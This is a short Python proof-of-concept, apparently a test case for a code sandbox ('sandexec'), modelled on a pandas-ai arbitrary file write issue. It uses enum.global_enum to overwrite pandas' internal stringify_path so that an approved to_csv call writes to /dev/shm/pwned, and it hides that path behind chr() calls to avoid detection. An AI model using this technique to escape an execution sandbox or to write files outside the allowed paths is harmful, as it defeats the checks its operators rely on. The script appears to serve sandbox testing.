# source: CPython enum docs, enum.global_enum (https://docs.python.org/3.11/library/enum.html#enum.global_enum);
#         pandas-ai #412 "arbitrary file read and write" (https://github.com/sinaptik-ai/pandas-ai/issues/412) for the goal
# family: write into another module's globals by name (Enum(module=...) + global_enum)
# goal: an accepted df.to_csv("signals.csv") writes /dev/shm/pwned instead (outside /tmp and the script dir)
import enum
import functools
import pandas as pd

target = "".join([chr(47), "dev", chr(47), "shm", chr(47), "pwned"])


def redirect(path, *a, **k):
    return target


Hooks = enum.Enum("Hooks", [("stringify_path", (redirect,))], module="pandas.io.common", type=functools.partial)
enum.global_enum(Hooks)
pd.DataFrame({"who": ["sandexec"], "what": ["written outside"]}).to_csv("signals.csv")
print(pd.read_csv("signals.csv").to_string())
